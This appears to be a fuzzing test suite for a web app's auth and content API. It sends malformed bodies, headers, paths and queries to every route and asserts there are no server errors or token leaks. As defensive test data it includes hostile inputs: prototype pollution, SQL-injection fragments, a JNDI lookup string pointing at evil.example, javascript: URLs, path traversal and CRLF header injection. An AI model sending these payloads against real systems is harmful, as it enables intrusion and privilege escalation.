import { afterAll, describe, expect, test } from 'vitest'
import { createContentRenderer } from '#server/content/content-renderer.ts'
import { bearer } from '#tests/support/auth/auth-calls.ts'
import { signInAs } from '#tests/support/auth/given-people.ts'
import { type AppCall, callsOf } from '#tests/support/clients/app-calls.ts'
import { callFields } from '#tests/support/clients/call-url.ts'
import { ENGINES } from '#tests/support/database/test-database.ts'
import { givenApp } from '#tests/support/site/given-app.ts'

/** Names that some call or other reads from its body: the contract's, and those of other protocols. */
const FIELDS = [
  ...callFields(),
  ...['email', 'phone', 'password', 'current_password', 'nonce', 'data', 'token', 'token_hash'],
  ...['type', 'refresh_token', 'auth_code', 'code_verifier', 'code_challenge', 'provider'],
  ...['id_token', 'domain', 'redirect_to', 'factor_type', 'friendly_name', 'challenge_id', 'code'],
  ...['credential', 'webauthn', 'title', 'content', 'author', 'slug', 'image_url', 'video_url'],
  ...['meta_title', 'published_at', 'prefix', 'search', 'limit', 'sortBy', 'prefixes', 'role'],
]

/** Together just within what the largest bodies may be: beyond that nothing of it would be looked at. */
const LONG = Math.floor(900_000 / FIELDS.length)
const DEEP = Math.floor(LONG / '{"a":}'.length)

const deep = (open: string, close: string, depth: number) =>
  open.repeat(depth) + close.repeat(depth)

/** Values in every field at once, as JSON. */
const VALUES: Record<string, string> = {
  'a null': 'null',
  'an empty text': '""',
  'a NUL': '"a\\u0000b"',
  'half a character': '"\\ud800"',
  'a line break': '"a\\r\\nBcc: everybody@kitchen.example"',
  'a long text': JSON.stringify('x'.repeat(LONG)),
  'a number beyond numbers': '1e999',
  'a negative number': '-1',
  'a great number': '9007199254740993',
  'a date that never was': '"9999-99-99T99:99:99Z"',
  'a date before dates': '"-271821-04-20T00:00:00Z"',
  'an id': '"019e7a6c-0000-7000-8000-000000000001"',
  'a list': '[[],[null]]',
  'a list of NULs': '["a\\u0000b"]',
  'a thing': '{"a":{"b":"\\u0000"}}',
  'a list in lists without end': deep('[', ']', DEEP),
  'a thing in things without end': `${'{"a":'.repeat(DEEP)}1${'}'.repeat(DEEP)}`,
}
const BODIES: Record<string, string> = {
  nothing: '',
  'half of JSON': '{"email":',
  'a mark before JSON': '\ufeff{}',
  'a list': '[]',
  'more than any call takes': JSON.stringify({ email: 'x'.repeat(2_000_000) }),
  'lists without end': deep('[', ']', 100_000),
  'a prototype': '{"__proto__":{"role":"admin"},"constructor":{"prototype":{"role":"admin"}}}',
  'bytes that are no text': '\u0000\u0001\u00ff',
  ...Object.fromEntries(
    Object.entries(VALUES).map(([which, value]) => [
      `${which} in every field`,
      `{${FIELDS.map((name) => `"${name}":${value}`).join(',')}}`,
    ]),
  ),
}
/** Refused while they are read: no database is asked, so one engine is enough. */
const REFUSED_UNREAD = new Set(['more than any call takes', 'lists without end'])
const HEADERS: Record<string, Record<string, string>> = {
  'a form without parts': { 'Content-Type': 'multipart/form-data; boundary=x' },
  'a form without a boundary': { 'Content-Type': 'multipart/form-data' },
  'a posted form': { 'Content-Type': 'application/x-www-form-urlencoded' },
  'another alphabet': { 'Content-Type': 'application/json; charset=utf-7' },
  'no type at all': { 'Content-Type': 'x' },
  'wishes that nobody fulfils': {
    Accept: 'application/x-nothing;q=banana',
    Prefer: 'count=exact,return=representation,tx=rollback,,,',
    Range: 'items=5-1',
    'If-None-Match': '"',
    'If-Modified-Since': 'yesterday',
    'X-Supabase-Api-Version': '9999-99-99',
    'Accept-Profile': '"; drop schema public',
  },
  'strange names': {
    'Idempotency-Key': "x' or 1=1",
    'User-Agent': '\u00ff'.repeat(2_000),
    'X-Forwarded-For': ', ,::ffff:999.1.1.1%25eth0, [::1]:80',
    Referer: 'javascript:alert(1)',
    'X-Client-Info': '%{jndi:ldap://evil.example}',
    'Cache-Control': 'max-age=99999999999999999999',
    'x-upsert': 'true',
  },
  'cookies upon cookies': {
    Cookie: `__Host-haven-session=%; __Host-haven-session=${'a.'.repeat(500)}; __Host-haven-flow=%00;=;`,
  },
}
const IN_PLACE_OF_IDS = ['%00', '%ff', '..%2f..%2fetc', "'", '%F0%9F%8D%B2', '-', 'x'.repeat(3_000)]
const CURSORS = [
  '{}',
  '2026-01-01T00:00:00.000Z \0',
  '2026-01-01T00:00:00.000Z_\0',
  '2026-01-01T00:00:00.000Z,019e7a6c-0000-7000-8000-00000000000\0',
  '{"at":"2026-01-01T00:00:00.000Z","id":"\\u0000"}',
  '["2026-01-01T00:00:00.000Z","\\u0000"]',
  '["\\u0000","019e7a6c-0000-7000-8000-000000000001"]',
]
const QUERIES = [
  '?%ff=%ff',
  '?a[b]=1&a=2',
  '?limit=1e9&offset=-1',
  '?q=%00',
  '?q=%00&after=%00&actor=%00&action=%00&subject=%00',
  '?token=%00&type=recovery&ticket=%00&state=%00&code=%00',
  '?provider=%00&redirect_to=%00',
  ...CURSORS.map((cursor) => `?cursor=${Buffer.from(cursor).toString('base64url')}`),
]
/** Whoever asks is somebody signed out afterwards. */
const ENDS_SESSIONS = /\/(?:logout|sessions)/
const ID = /019e7a6c-0000-7000-8000-000000000001|soup\.png/g

type Sent = { token: string; which: string; body?: string; headers?: Record<string, string> }

const content = createContentRenderer({ deadlineMs: 10_000 })
afterAll(() => content.close())

describe.each(ENGINES)('on %s', (engine) => {
  const { app, givenPerson, routes, rows, deps } = givenApp(engine, {}, { content })
  let asked = 0

  /** A new administrator, who has asked for nothing yet: limits would hide what they refuse. */
  async function givenToken(): Promise<string> {
    return signInAs(deps(), await givenPerson({ role: 'admin' }))
  }

  /** Sends it signed out and as an administrator. */
  async function send(
    { method, path }: AppCall,
    { token, which, body = '{}', headers = {} }: Sent,
  ): Promise<void> {
    const admin = ENDS_SESSIONS.test(path) ? await givenToken() : token
    for (const said of [{}, bearer(admin)]) {
      asked += 1
      const address = `10.${(asked >> 8) % 250}.${asked % 250}.7`
      const init = {
        method,
        headers: {
          'Content-Type': 'application/json',
          'X-Forwarded-For': address,
          ...said,
          ...headers,
        },
      }
      const response = await app.request(path, method === 'GET' ? init : { ...init, body })
      const text = await response.text()
      expect(response.status, `${method} ${path} with ${which}: ${text}`).toBeLessThan(500)
      expect(text, `${method} ${path} with ${which}`).not.toContain('refresh_token":')
    }
  }

  test('no body of any call is a fault of the server', async () => {
    const calls = callsOf(routes()).filter(({ method }) => method !== 'GET')
    for (const [which, body] of Object.entries(BODIES)) {
      if (engine === 'postgres' && REFUSED_UNREAD.has(which)) continue
      const token = await givenToken()
      for (const call of calls) await send(call, { token, which, body })
    }
    expect((await rows('auth_users')).every(({ role }) => role === 'admin' || role === null)).toBe(
      true,
    )
  }, 240_000)

  test('no headers of any call are a fault of the server', async () => {
    for (const [which, headers] of Object.entries(HEADERS)) {
      const token = await givenToken()
      for (const call of callsOf(routes())) await send(call, { token, which, headers })
    }
  }, 240_000)

  test('no address is a fault of the server', async () => {
    for (const call of callsOf(routes())) {
      const token = await givenToken()
      for (const id of call.path.match(ID) ? IN_PLACE_OF_IDS : []) {
        await send({ ...call, path: call.path.replace(ID, id) }, { token, which: 'this address' })
      }
      for (const query of QUERIES) {
        await send({ ...call, path: call.path + query }, { token, which: 'this query' })
      }
    }
  }, 240_000)
})
